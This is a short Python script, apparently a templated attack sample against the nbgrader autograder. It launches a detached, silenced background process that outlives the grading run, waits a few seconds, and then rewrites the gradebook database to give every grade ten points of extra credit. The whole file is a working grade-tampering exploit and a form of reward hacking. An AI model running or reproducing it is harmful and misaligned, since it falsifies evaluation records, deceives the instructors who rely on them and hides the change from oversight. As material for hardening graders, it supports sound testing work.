"""Leaves a process behind that changes the gradebook once the grade has been written.

aim: points
known: nbgrader https://github.com/jupyter/nbgrader/issues/483
"""

import subprocess
import sys

LATER = """
import sqlite3, time

time.sleep(8)
gradebook = sqlite3.connect("file:@ROOT@/gradebook.db?mode=rw", uri=True, timeout=5)
with gradebook:
    gradebook.execute("UPDATE grade SET extra_credit = 10")
"""
subprocess.Popen(
    [sys.executable, "-c", LATER, "@TOKEN@"],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
